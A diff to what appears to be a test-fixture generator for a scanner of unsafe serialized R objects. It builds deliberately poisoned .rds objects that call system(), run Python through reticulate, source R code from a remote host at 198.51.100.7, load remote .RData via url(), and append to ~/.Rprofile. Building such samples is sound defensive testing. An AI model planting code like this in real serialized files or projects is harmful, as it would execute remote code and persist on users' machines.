@@ -84,6 +84,8 @@ print <- function(...) base::cat("surety"); save(print, d, file = file.path(fold
 save_as(function(x) { reticulate::py_run_string("import os"); x }, "closure_python"); save_as(quote(.Internal(system("echo surety", TRUE))), "call_internal")
 m <- poison(quote(system("echo surety"))); save_as(m, "call_ascii", ascii = TRUE); save_as(m, "call_v2", version = 2); save_as(m, "call_bzip2", compress = "bzip2"); save_as(m, "call_xz", compress = "xz")
 con <- file(file.path(folder, "call_little_endian.rds"), "wb"); serialize(m, con, xdr = FALSE); close(con)
+save_as(function() source("http://198.51.100.7/x.R"), "closure_source"); save_as(function() cat("x", file = "~/.Rprofile", append = TRUE), "closure_rprofile")
+save_as(list(update = function(m) { load(url("http://198.51.100.7/x.RData")); m }), "closure_load_url")
 setClass("Model", representation(run = "function")); save_as(new("Model", run = function() system("echo surety")), "s4_function")
 """
 
